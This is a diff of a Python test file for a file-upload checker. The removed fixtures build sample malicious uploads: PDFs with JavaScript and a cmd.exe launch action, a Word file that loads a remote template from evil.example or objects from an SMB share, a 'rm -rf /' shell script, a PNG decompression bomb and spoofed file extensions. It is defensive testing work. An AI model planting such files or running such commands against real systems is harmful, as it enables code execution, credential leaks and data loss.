@@ -1,9 +1,7 @@
 """A hostile corpus: what is stored, what is refused and why, and that nothing passes by its name alone."""
 
 import re
-import zlib
 from io import BytesIO
-from zipfile import ZIP_DEFLATED, ZipFile
 
 import pikepdf
 import pytest
@@ -14,201 +12,22 @@ from PIL import Image
 
 from nominations.dossiers import documents, pictures
 from nominations.dossiers.files import FileRefused, shown_name, sniff
-from tests import factories
-
-WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
-EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
-MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
-RELATION = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'
-
-EMPTY = "empty"
-KIND = "only PDF, Word, Excel"
-NAME = "its content is not what its name says"
-LARGE = "it is larger than"
-CUT = "cut off or something else"
-ACTIVE = "the PDF contains active content"
-MACROS = "macros, embedded objects or links"
-BROKEN_PDF = "the PDF cannot be read"
-BROKEN_DOCUMENT = "the document cannot be read"
-BROKEN_PICTURE = "the picture cannot be read"
-PIXELS = "more than 25 million pixels"
-LOCKED = "protected by a password"
+from tests import factories, hostile
+from tests.hostile import (
+    BROKEN_PICTURE,
+    EXCEL_MAIN,
+    LARGE,
+    REFUSED,
+    RELATION,
+    office,
+    opens_on_page_one,
+    pdf_with,
+)
 
 
 @pytest.fixture(autouse=True)
 def _english(settings):
     settings.LANGUAGE_CODE = "en"
-
-
-def office(*, main=WORD_MAIN, extra=(), relations="", types="", comment=b"", first=()) -> bytes:
-    """Write an office file with the parts that the sniffer reads, and any others."""
-    table = f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
-    out = BytesIO()
-    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
-        for path, content in first:
-            archive.writestr(path, content)
-        archive.writestr("[Content_Types].xml", table)
-        archive.writestr("_rels/.rels", "<Relationships/>")
-        archive.writestr("word/document.xml", "<w:document/>")
-        archive.writestr("word/_rels/document.xml.rels", f"<Relationships>{relations}</Relationships>")
-        for path, content in extra:
-            archive.writestr(path, content)
-        archive.comment = comment
-    return out.getvalue()
-
-
-def pdf_with(change, **options) -> bytes:
-    document = pikepdf.new()
-    document.add_blank_page()
-    change(document)
-    out = BytesIO()
-    document.save(out, **options)
-    return out.getvalue()
-
-
-def script(document):
-    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
-
-
-def launch(document):
-    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
-    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=action)])
-
-
-def page_script(document):
-    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))
-
-
-def attachment(document):
-    document.attachments["virus.exe"] = b"MZ"
-
-
-def form(document):
-    document.Root.AcroForm = document.make_indirect(pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>")))
-
-
-def hex_escaped() -> bytes:
-    """The same script, its names written with escapes, as only a reader of PDF sees them."""
-    plain = pdf_with(script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
-    assert b"/JavaScript" in plain
-    return plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
-
-
-def opens_on_page_one(document):
-    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
-
-
-def png_bomb() -> bytes:
-    """A few bytes that promise 60,000 × 60,000 pixels."""
-
-    def chunk(kind, body):
-        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
-
-    header = (60_000).to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
-    return (
-        b"\x89PNG\r\n\x1a\n"
-        + chunk(b"IHDR", header)
-        + chunk(b"IDAT", zlib.compress(b"\0" * 999))
-        + chunk(b"IEND", b"")
-    )
-
-
-REFUSED = {
-    "empty": ("bao-cao.pdf", b"", EMPTY),
-    "text called PDF": ("bao-cao.pdf", b"Kinh gui Vu To chuc can bo", KIND),
-    "HTML called PDF": ("bao-cao.pdf", b"<!DOCTYPE html><script>alert(1)</script>", KIND),
-    "HTML": ("bao-cao.html", b"<!DOCTYPE html><script>alert(1)</script>", KIND),
-    "SVG": ("anh.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', KIND),
-    "SVG called PNG": ("anh.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', KIND),
-    "GIF": ("anh.gif", factories.picture(format="GIF"), KIND),
-    "TIFF called JPEG": ("anh.jpg", factories.picture(format="TIFF"), KIND),
-    "PostScript called JPEG": ("anh.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", KIND),
-    "program": ("bao-cao.pdf", b"MZ\x90\0" + b"\0" * 200, KIND),
-    "shell script": ("bao-cao.docx", b"#!/bin/sh\nrm -rf /\n", KIND),
-    "old Word": ("bao-cao.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, KIND),
-    "rich text": ("bao-cao.rtf", rb"{\rtf1\ansi}", KIND),
-    "ZIP called Word": ("bao-cao.docx", office(main="text/plain"), KIND),
-    "PNG called JPEG": ("anh.jpg", factories.picture(), NAME),
-    "PDF called Word": ("bao-cao.docx", factories.pdf(), NAME),
-    "PDF without an ending": ("baocao", factories.pdf(), NAME),
-    "PDF with a second ending": ("bao-cao.pdf.exe", factories.pdf(), NAME),
-    "Word called Excel": ("bang.xlsx", office(), NAME),
-    "ending behind a direction mark": ("bao-cao\u202efdp.exe", factories.pdf(), NAME),
-    "too large": ("bao-cao.pdf", b"%PDF-1.7" + b"\0" * 20 * 1024 * 1024, LARGE),
-    "cut-off PDF": ("bao-cao.pdf", factories.pdf()[:-60], CUT),
-    "head of a PDF": ("bao-cao.pdf", b"%PDF-1.7\n%%EOF", BROKEN_PDF),
-    "rubbish between head and end": (
-        "bao-cao.pdf",
-        b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF",
-        BROKEN_PDF,
-    ),
-    "PDF without pages": ("bao-cao.pdf", pdf_with(lambda d: d.pages.__delitem__(0)), BROKEN_PDF),
-    "PDF and ZIP in one": (
-        "bao-cao.pdf",
-        factories.pdf() + office(extra=[("x", bytes(range(256)) * 40)]),
-        CUT,
-    ),
-    "PDF and HTML in one": ("bao-cao.pdf", factories.pdf() + b"<script>alert(1)</script>" * 50, CUT),
-    "PDF with a script": ("bao-cao.pdf", pdf_with(script), ACTIVE),
-    "PDF with a packed script": (
-        "bao-cao.pdf",
-        pdf_with(
-            lambda d: (script(d), d.make_indirect(d.Root.OpenAction)),
-            object_stream_mode=pikepdf.ObjectStreamMode.generate,
-        ),
-        ACTIVE,
-    ),
-    "PDF with an escaped script": ("bao-cao.pdf", hex_escaped(), ACTIVE),
-    "PDF with a page script": ("bao-cao.pdf", pdf_with(page_script), ACTIVE),
-    "PDF that starts a program": ("bao-cao.pdf", pdf_with(launch), ACTIVE),
-    "PDF that carries a file": ("bao-cao.pdf", pdf_with(attachment), ACTIVE),
-    "PDF with a dynamic form": ("bao-cao.pdf", pdf_with(form), ACTIVE),
-    "PDF with a password": (
-        "bao-cao.pdf",
-        pdf_with(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="u")),
-        LOCKED,
-    ),
-    "Word with macros": ("bao-cao.docx", office(main=MACRO_MAIN), KIND),
-    "Word with a hidden macro": ("bao-cao.docx", office(extra=[("word/vbaProject.bin", b"x")]), MACROS),
-    "Word with an object": ("bao-cao.docx", office(extra=[("word/embeddings/oleObject1.bin", b"x")]), MACROS),
-    "Word with a control": ("bao-cao.docx", office(extra=[("word/activeX/activeX1.xml", "x")]), MACROS),
-    "Word that loads a template": (
-        "bao-cao.docx",
-        office(
-            relations=RELATION.format(
-                "attachedTemplate", "https://evil.example/t.dotm", ' TargetMode="External"'
-            )
-        ),
-        MACROS,
-    ),
-    "Word that loads from a share": (
-        "bao-cao.docx",
-        office(
-            relations=RELATION.format("oleObject", r"file://///10.0.0.1/x", ' TargetMode="External"')
-            + RELATION.format("frame", r"\\10.0.0.1\x", ' TargetMode="External"')
-        ),
-        MACROS,
-    ),
-    "Word that is both": ("bao-cao.docx", office(types=f'<Override ContentType="{EXCEL_MAIN}"/>'), KIND),
-    "Word with entities": ("bao-cao.docx", office(types='<!DOCTYPE x [<!ENTITY a "b">]>'), KIND),
-    "Word that unfolds endlessly": (
-        "bao-cao.docx",
-        office(extra=[("word/big.xml", b"\0" * (201 * 1024 * 1024))]),
-        BROKEN_DOCUMENT,
-    ),
-    "Word of too many parts": (
-        "bao-cao.docx",
-        office(extra=[(f"word/{n}.xml", "") for n in range(5001)]),
-        BROKEN_DOCUMENT,
-    ),
-    "Word with a tail": ("bao-cao.docx", office(comment=b"<script>"), BROKEN_DOCUMENT),
-    "cut-off Word": ("bao-cao.docx", office()[:-40], KIND),
-    "head of a ZIP": ("bao-cao.docx", b"PK\x03\x04", KIND),
-    "cut-off PNG": ("anh.png", factories.picture((400, 400))[:-200], BROKEN_PICTURE),
-    "cut-off JPEG": ("anh.jpg", factories.picture((400, 400), format="JPEG")[:600], BROKEN_PICTURE),
-    "head of a WebP": ("anh.webp", b"RIFF\x10\0\0\0WEBPVP8 ", BROKEN_PICTURE),
-    "picture that unfolds endlessly": ("anh.png", png_bomb(), PIXELS),
-}
 
 
 @pytest.mark.parametrize("case", REFUSED)
@@ -280,24 +99,78 @@ def test_keeps_a_document_as_it_is(case):
     assert (kept.media_type, kept.content.read(), kept.size) == (media_type, content, len(content))
 
 
-def gps_exif() -> Image.Exif:
-    exif = Image.Exif()
-    exif[0x0110] = "SECRETPHONE"
-    exif[0x0112] = 6  # turned by a quarter
-    exif.get_ifd(0x8825)[2] = (21.0, 1.0, 42.0)
-    return exif
+@pytest.mark.parametrize("case", hostile.PLACED)
+def test_takes_place_and_device_out_of_a_picture_and_turns_it_upright(case):
+    name, original = hostile.PLACED[case]
+    assert hostile.MARK in original
+
+    kept = sniff(SimpleUploadedFile(name, original))
+
+    data = kept.content.read()
+    assert hostile.MARK not in data
+    assert [
+        mark
+        for mark in (b"Exif", b"GPS", b"xmp", b"8BIM", b"eXIf", b"iTXt", b"tEXt", b"zTXt")
+        if mark in data
+    ] == []
+    with Image.open(BytesIO(data)) as picture:
+        assert (picture.size, dict(picture.getexif()), picture.getexif().get_ifd(0x8825)) == (
+            (50, 40),
+            {},
+            {},
+        )
 
 
-@pytest.mark.parametrize(("format", "ending"), [("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")])
-def test_takes_place_and_device_out_of_a_picture_and_turns_it_upright(format, ending):
-    original = factories.picture((40, 50), format=format, exif=gps_exif())
-    assert b"SECRETPHONE" in original
+@pytest.mark.parametrize("orientation", range(1, 9))
+def test_a_picture_shows_the_same_whichever_way_it_was_held(orientation):
+    upright = Image.new("RGB", (64, 48), "white")
+    upright.paste("red", (0, 0, 16, 16))
+    back = {
+        2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180, 4: Image.Transpose.FLIP_TOP_BOTTOM,
+        5: Image.Transpose.TRANSPOSE, 6: Image.Transpose.ROTATE_90, 7: Image.Transpose.TRANSVERSE,
+        8: Image.Transpose.ROTATE_270,
+    }  # fmt: skip
+    held, out = upright.transpose(back[orientation]) if orientation > 1 else upright, BytesIO()
+    held.save(out, "JPEG", exif=hostile.placed_exif(orientation), quality=95)
 
-    kept = sniff(SimpleUploadedFile(f"anh.{ending}", original)).content.read()
+    kept = sniff(SimpleUploadedFile("a.jpg", out.getvalue()))
 
-    assert b"SECRETPHONE" not in kept
-    with Image.open(BytesIO(kept)) as picture:
-        assert (picture.format, picture.size, dict(picture.getexif())) == (format, (50, 40), {})
+    with Image.open(kept.content) as picture:
+        red, green, _blue = picture.getpixel((8, 8))
+        assert (picture.size, red > 200, green < 60) == ((64, 48), True, True)
+
+
+@pytest.mark.parametrize("case", hostile.CLEANSED)
+def test_keeps_a_picture_without_its_passenger(case):
+    name, content, media_type = hostile.CLEANSED[case]
+    assert hostile.SCRIPT in content
+
+    kept = sniff(SimpleUploadedFile(name, content))
+
+    assert (kept.media_type, hostile.SCRIPT in kept.content.read()) == (media_type, False)
+
+
+def test_a_picture_of_a_telephone_becomes_a_jpeg():
+    kept = sniff(SimpleUploadedFile("IMG 0042.HEIC", hostile.heic()))
+
+    with Image.open(kept.content) as picture:
+        assert (kept.name, kept.media_type, kept.pages, picture.format) == (
+            "IMG 0042.jpg",
+            "image/jpeg",
+            1,
+            "JPEG",
+        )
+
+
+@pytest.mark.parametrize(("name", "content", "pages"), [
+    ("a.pdf", hostile.pdf_with(lambda document: document.add_blank_page()), 2),
+    ("a.docx", office(extra=[("docProps/app.xml", "<Properties><Pages>7</Pages></Properties>")]), 7),
+    ("a.docx", office(), None),
+    ("a.docx", office(extra=[("docProps/app.xml", "<Properties><Pages>nhiều</Pages></Properties>")]), None),
+    ("a.xlsx", office(main=EXCEL_MAIN), None),
+])  # fmt: skip
+def test_counts_pages(name, content, pages):
+    assert sniff(SimpleUploadedFile(name, content)).pages == pages
 
 
 def test_takes_comments_and_text_out_of_a_picture():
